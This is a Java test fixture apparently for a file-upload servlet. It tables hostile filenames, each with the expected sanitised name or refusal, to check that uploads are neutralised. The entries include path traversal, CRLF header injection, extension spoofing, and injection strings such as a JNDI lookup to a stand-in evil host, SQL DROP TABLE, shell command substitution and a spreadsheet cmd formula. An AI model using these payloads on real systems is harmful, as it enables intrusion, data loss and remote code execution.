package dev.filestore.servlet;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.stream.Stream;

/** File names that trip programs up, as they stand in a part's header, and what is to become of each. */
final class HostileNames {

    private final List<Name> names = new ArrayList<>();

    /**
     * A name.
     *
     * @param title what is wrong with it
     * @param parameters what stands behind {@code name="file"}, each character a byte
     * @param stored what the file is called then, a run of replacement characters being one; or how it is refused
     */
    record Name(String title, String parameters, String stored) {

        boolean isRefused() {
            return stored.startsWith("400 ");
        }

        @Override
        public String toString() {
            return title;
        }
    }

    private static final String MALFORMED = "400 Invalid request";
    private static final String TYPE = "400 File type not allowed";

    static Stream<Name> all() {
        HostileNames table = new HostileNames();
        table.paths();
        table.bytes();
        table.lines();
        table.unseen();
        table.systems();
        table.injections();
        table.scripts();
        table.extensions();
        table.lengths();
        table.parameters();
        return table.names.stream();
    }

    /** A name in quotes, in UTF-8. */
    private void quoted(String title, String name, String stored) {
        parameters(title, "; filename=\"" + name + "\"", stored);
    }

    /** A name in quotes, each character one byte. */
    private void raw(String title, String name, String stored) {
        names.add(new Name(title, "; filename=\"" + name + "\"", stored));
    }

    private void parameters(String title, String parameters, String stored) {
        byte[] utf8 = parameters.getBytes(StandardCharsets.UTF_8);
        names.add(new Name(title, new String(utf8, StandardCharsets.ISO_8859_1), stored));
    }

    private void paths() {
        quoted("up the tree", "../../../etc/passwd.pdf", "passwd.pdf");
        quoted("up the tree on Windows", "..\\..\\windows\\win.pdf", "win.pdf");
        quoted("both slashes", "..\\../..\\/a.pdf", "a.pdf");
        quoted("absolute", "/etc/cron.d/a.pdf", "a.pdf");
        quoted("drive", "C:\\Users\\me\\a.pdf", "a.pdf");
        quoted("drive without slash", "C:a.pdf", "a.pdf");
        quoted("drives", "C:D:E:a.pdf", "a.pdf");
        quoted("UNC", "\\\\server\\share\\a.pdf", "a.pdf");
        quoted("UNC with slashes", "//server/share/a.pdf", "a.pdf");
        quoted("device path", "\\\\?\\C:\\a.pdf", "a.pdf");
        quoted("what a filter leaves", "....//....//a.pdf", "a.pdf");
        quoted("file URI", "file:///etc/a.pdf", "a.pdf");
        quoted("escaped slashes stay text", "..%2f..%2fa.pdf", "..%2f..%2fa.pdf");
        quoted("twice escaped", "%252e%252e%252fa.pdf", "%252e%252e%252fa.pdf");
        quoted("ends above", "a.pdf/..", "file");
        quoted("ends with a slash", "a.pdf/", "file");
        quoted("dot", ".", "file");
        quoted("dots", "..", "file");
        quoted("more dots", "....", "file");
        quoted("division slash is no slash", "..\u2215..\u2044a.pdf", "..\u2215..\u2044a.pdf");
        quoted("full-width slash is no slash", "..\uff0f..\uff3ca.pdf", "..\uff0f..\uff3ca.pdf");
        quoted("home", "~root.pdf", "~root.pdf");
        quoted("empty", "", "file");
        quoted("space only", "  \t ", "file");
        quoted("space of every kind", "\u00a0\u3000\u2003\u205f", "file");
        quoted("fillers only", "\u3164\uffa0\u2800", "file");
    }

    private void bytes() {
        raw("overlong slash", "..\u00c0\u00af..\u00c0\u00afa.pdf", "..\ufffd..\ufffda.pdf");
        raw("overlong slash of three bytes", "..\u00e0\u0080\u00afa.pdf", "..\ufffda.pdf");
        raw("overlong NUL", "a\u00c0\u0080.pdf", "a\ufffd.pdf");
        raw("surrogates of CESU-8", "a\u00ed\u00a0\u00bd\u00ed\u00b8\u0080.pdf", "a\ufffd.pdf");
        raw("lone surrogate of WTF-8", "a\u00ed\u00a0\u0080.pdf", "a\ufffd.pdf");
        raw("beyond Unicode", "a\u00f4\u0090\u0080\u0080.pdf", "a\ufffd.pdf");
        raw("bytes of no UTF-8", "a\u00fe\u00ff\u0080.pdf", "a\ufffd.pdf");
        raw("cut off within a character", "a.pdf\u00eb\u00ac", "a.pdf\ufffd");
        raw("ISO-8859-1", "r\u00e9sum\u00e9.pdf", "r\ufffdsum\ufffd.pdf");
        raw("EUC-KR", "\u00b9\u00ae\u00bc\u00ad.pdf", "\ufffd.pdf");
        // The second byte of this character is a backslash.
        raw("Shift_JIS", "\u0095\\.pdf", ".pdf");
        raw("Shift_JIS before the quote", "a.pdf\u0095\\", MALFORMED);
        raw("UTF-16", "a\0.\0p\0d\0f\0", MALFORMED);
        quoted("UTF-7", "+ADw-script+AD4-.pdf", "+ADw-script+AD4-.pdf");
        quoted("noncharacters", "a\ufffe\uffff\ufdd0\ud83f\udfff.pdf", "a.pdf");
        quoted("private use", "a\ue000\udbff\udffdb.pdf", "ab.pdf");
    }

    private void lines() {
        quoted("NUL", "a.pdf\0.exe", MALFORMED);
        quoted("CRLF", "a\r\nX-Evil: y.pdf", MALFORMED);
        quoted("CRLF and the end of the header", "a\r\n\r\n%PDF-1.4.pdf", MALFORMED);
        quoted("LF", "a\nX-Evil: y.pdf", MALFORMED);
        quoted("CR", "a\rX-Evil: y.pdf", MALFORMED);
        quoted("folded", "a\r\n X-Evil: y.pdf", "a X-Evil: y.pdf");
        quoted("CRLF as browsers escape it", "a%0D%0ASet-Cookie: x=y.pdf", "aSet-Cookie: x=y.pdf");
        quoted("in small letters", "a%0d%0a%0d%0ab.pdf", "ab.pdf");
        quoted("other escapes stay text", "a%00%09%1b%7f.pdf", "a%00%09%1b%7f.pdf");
        quoted("line separators", "a\u2028b\u2029c\u0085d.pdf", "abcd.pdf");
        quoted("vertical", "a\u000bb\fc.pdf", "abc.pdf");
        quoted("colours", "\u001b[31ma\u001b[0m.pdf", "[31ma[0m.pdf");
        quoted("title of a terminal", "\u001b]0;evil\u0007a.pdf", "]0;evila.pdf");
        quoted("C1", "\u009b31ma\u0090.pdf", "31ma.pdf");
        quoted("backspaces", "exe.\b\b\b\ba.pdf", "exe.a.pdf");
        quoted("DEL", "a\u007f.pdf", "a.pdf");
    }

    private void unseen() {
        quoted("right to left", "a\u202efdp.pdf", "afdp.pdf");
        quoted("hides its extension", "evil\u202efdp.exe", TYPE);
        quoted("hides another", "evil\u202egpj.exe", TYPE);
        quoted("embeddings", "\u202aa\u202bb\u202cc\u202d.pdf", "abc.pdf");
        quoted("isolates", "\u2066a\u2067b\u2068c\u2069.pdf", "abc.pdf");
        quoted("marks of direction", "a\u200eb\u200fc\u061cd.pdf", "abcd.pdf");
        quoted("zero width", "a\u200bb\u200cc\u200dd\u2060e\ufefff.pdf", "abcdef.pdf");
        quoted("within the extension", "a.p\u200bd\u200bf", "a.pdf");
        quoted("hides an extension that is not allowed", "a.pdf.e\u200bx\u200be", TYPE);
        quoted("soft hyphen", "a\u00adb.pdf", "ab.pdf");
        quoted("tags", "a\udb40\udc41\udb40\udc7f.pdf", "a.pdf");
        quoted("annotations", "a\ufff9b\ufffac\ufffb.pdf", "abc.pdf");
        quoted("marks only", "\u0301\u0302\u0303", "\u0301\u0302\u0303");
        quoted("marks before the extension", "\u0301\u0302.pdf", "\u0301\u0302.pdf");
        quoted(
                "mountains of marks",
                "a" + "\u0363\u033f".repeat(40) + ".pdf",
                "a" + "\u0363\u033f".repeat(40) + ".pdf");
    }

    private void systems() {
        for (String device : new String[] {"NUL", "COM1", "aux", "LPT9", "CONIN$", "PRN", "COM\u00b9"}) {
            quoted("device " + device, device + ".pdf", device + ".pdf");
        }
        quoted("device without extension", "CON", "CON");
        quoted("stream", "a.pdf::$DATA", "a.pdf::$DATA");
        quoted("stream of a program", "a.exe:b.pdf", "a.exe:b.pdf");
        quoted("dot at the end", "a.pdf.", "a.pdf");
        quoted("dots and spaces at the end", "a.pdf . . \u3000", "a.pdf");
        quoted("program with a dot at its end", "a.exe.", TYPE);
        quoted("hidden", ".htaccess", ".htaccess");
        quoted("hidden with extension", ".htaccess.pdf", ".htaccess.pdf");
        quoted("extension only", ".pdf", ".pdf");
        quoted("settings of IIS", "web.config", TYPE);
        quoted("option", "--help.pdf", "--help.pdf");
        quoted("wildcards", "*?[a]{b}.pdf", "*?[a]{b}.pdf");
    }

    private void injections() {
        quoted("quotes", "a%22; filename=%22evil.exe%22; x=%22.pdf", "a\"; filename=\"evil.exe\"; x=\".pdf");
        quoted("quotes with backslashes", "a\\\"b\\\"c.pdf", "a\"b\"c.pdf");
        quoted("semicolons and commas", "a;b,c;d=e.pdf", "a;b,c;d=e.pdf");
        quoted("apostrophes", "a' op='delete' status='200.pdf", "a' op='delete' status='200.pdf");
        quoted("look-up", "${jndi:ldap:evil.example}.pdf", "${jndi:ldap:evil.example}.pdf");
        quoted("look-up with a path", "${jndi:ldap://evil.example/a}.pdf", "a}.pdf");
        quoted("formats", "%s%n%x{}{0}%1$s.pdf", "%s%n%x{}{0}%1$s.pdf");
        quoted("expressions", "#{7*7}${7*7}<%=7*7%>.pdf", "#{7*7}${7*7}<%=7*7%>.pdf");
        quoted("HTML", "<img src=x onerror=alert(1)>.pdf", "<img src=x onerror=alert(1)>.pdf");
        quoted("script", "<script>alert(1)<%2fscript>.pdf", "<script>alert(1)<%2fscript>.pdf");
        quoted("SQL", "'; DROP TABLE file_uploads; --.pdf", "'; DROP TABLE file_uploads; --.pdf");
        quoted("shell", "`id`$(id)|id&&id;.pdf", "`id`$(id)|id&&id;.pdf");
        quoted("spreadsheet", "=cmd|' C'!A0.pdf", "=cmd|' C'!A0.pdf");
        quoted("JSON", "a\\\",\\\"category\\\":\\\"image.pdf", "a\",\"category\":\"image.pdf");
        quoted("RFC 2047", "=?utf-8?B?Li4vYS5leGU=?=.pdf", "=?utf-8?B?Li4vYS5leGU=?=.pdf");
        quoted("XML", "&lt;&#x2e;&xxe;.pdf", "&lt;&#x2e;&xxe;.pdf");
    }

    private void scripts() {
        quoted("Korean in NFD", "\u1106\u116e\u11ab\u1109\u1165.pdf", "\ubb38\uc11c.pdf");
        quoted("Japanese in NFD", "\u30ab\u3099\u30a4\u30c8\u3099.pdf", "\u30ac\u30a4\u30c9.pdf");
        quoted("family", "\ud83d\udc69\u200d\ud83d\udc67.pdf", "\ud83d\udc69\ud83d\udc67.pdf");
        quoted(
                "flag and heart",
                "\ud83c\uddf0\ud83c\uddf7\u2764\ufe0f.pdf",
                "\ud83c\uddf0\ud83c\uddf7\u2764\ufe0f.pdf");
        quoted("Arabic", "\u0645\u0644\u0641.pdf", "\u0645\u0644\u0641.pdf");
        quoted("look-alikes", "\u0440\u0430\u0443.pdf", "\u0440\u0430\u0443.pdf");
        quoted("look-alikes in the extension", "a.\u0440df", TYPE);
        quoted("full-width dot", "a.exe\uff0epdf", "a.exe\uff0epdf");
    }

    private void extensions() {
        quoted("two, the last allowed", "a.php.pdf", "a.php.pdf");
        quoted("two, the last not allowed", "a.pdf.php", TYPE);
        quoted("NUL between, escaped", "a.php%00.pdf", "a.php%00.pdf");
        quoted("line break between, escaped", "a.php%0a.pdf", "a.php.pdf");
        quoted("semicolon between", "a.asp;.pdf", "a.asp;.pdf");
        quoted("semicolon behind", "a.pdf;.asp", TYPE);
        quoted("path behind", "a.pdf/b.php", TYPE);
        quoted("in capitals", "A.PDF", "A.PDF");
        quoted("of a program in capitals", "A.PDF.EXE", TYPE);
        quoted("of another allowed type", "a.png", TYPE);
    }

    private void lengths() {
        quoted("7 KB", "x".repeat(7_000) + ".pdf", "x".repeat(251) + ".pdf");
        quoted("7 KB in Korean", "\uae00".repeat(2_300) + ".pdf", "\uae00".repeat(251) + ".pdf");
        quoted("7 KB of emoji", "\ud83d\ude00".repeat(1_700) + ".pdf", "\ud83d\ude00".repeat(125) + ".pdf");
        quoted("7 KB of path", "../".repeat(2_300) + "a.pdf", "a.pdf");
        quoted("7 KB of dots", ".".repeat(7_000), "file");
        quoted("7 KB of escapes", "%0a".repeat(2_300) + "a.pdf", "a.pdf");
        quoted("7 KB of backslashes", "\\\\".repeat(3_500) + "a.pdf", "a.pdf");
        quoted("7 KB of quotes", "\\\"".repeat(3_500) + ".pdf", "\"".repeat(251) + ".pdf");
        quoted("100 KB", "x".repeat(100_000) + ".pdf", MALFORMED);
        quoted("100 KB of lines", "x\r\n ".repeat(25_000) + ".pdf", MALFORMED);
        quoted("long extension", "a." + "x".repeat(300), "a." + "x".repeat(253));
    }

    private void parameters() {
        parameters("twice", "; filename=\"a.pdf\"; filename=\"b.pdf\"", MALFORMED);
        parameters("twice in other letters", "; filename=\"a.pdf\"; FileName=\"b.pdf\"", MALFORMED);
        parameters("twice with a space", "; filename=\"a.pdf\"; filename =\"b.pdf\"", MALFORMED);
        parameters("extended disagrees", "; filename=\"a.exe\"; filename*=UTF-8''b.pdf", "b.pdf");
        parameters("extended is a program", "; filename=\"a.pdf\"; filename*=UTF-8''b.exe", TYPE);
        parameters("extended twice", "; filename*=UTF-8''a.pdf; filename*=UTF-8''b.pdf", MALFORMED);
        parameters("extended path", "; filename*=UTF-8''..%2F..%5Cetc%2Fpasswd.pdf", "passwd.pdf");
        parameters("extended NUL", "; filename*=UTF-8''a%00b.pdf", "ab.pdf");
        parameters("extended CRLF", "; filename*=UTF-8''a%0D%0AX-Evil%3A%20b.pdf", "aX-Evil: b.pdf");
        parameters("extended right to left", "; filename*=UTF-8''a%E2%80%AEfdp.pdf", "afdp.pdf");
        parameters("extended overlong", "; filename*=UTF-8''..%C0%AFa.pdf", MALFORMED);
        parameters("extended surrogate", "; filename*=UTF-8''%ED%A0%80.pdf", MALFORMED);
        parameters("extended cut off", "; filename*=UTF-8''a.pdf%E", MALFORMED);
        parameters("extended in another charset", "; filename*=ISO-8859-1''%e9.pdf", MALFORMED);
        parameters("extended with a language", "; filename*=utf-8'en'a.pdf", "a.pdf");
        parameters("in sections", "; filename*0=\"a\"; filename*1=\".pdf\"", "400 No file provided");
        parameters("extended name of the field", "; filename=\"a.pdf\"; name*=UTF-8''other", "a.pdf");
        parameters("without quotes", "; filename=a.pdf", "a.pdf");
        parameters("without quotes, empty", "; filename=", "file");
        parameters("quote in the middle", "; filename=a\"b.pdf", MALFORMED);
        parameters("quote without an end", "; filename=\"a.pdf", MALFORMED);
        parameters("text behind the quotes", "; filename=\"a.pdf\"x", MALFORMED);
        parameters("parameter without value", "; filename; x=\"a.pdf\"", MALFORMED);
        parameters("parameter without name", "; =\"x\"; filename=\"a.pdf\"", MALFORMED);
        parameters("parameter of Unicode", "; file\u3000name=\"x\"; filename=\"a.pdf\"", MALFORMED);
        parameters("name of the field twice", "; filename=\"a.pdf\"; name=\"other\"", MALFORMED);
    }
}
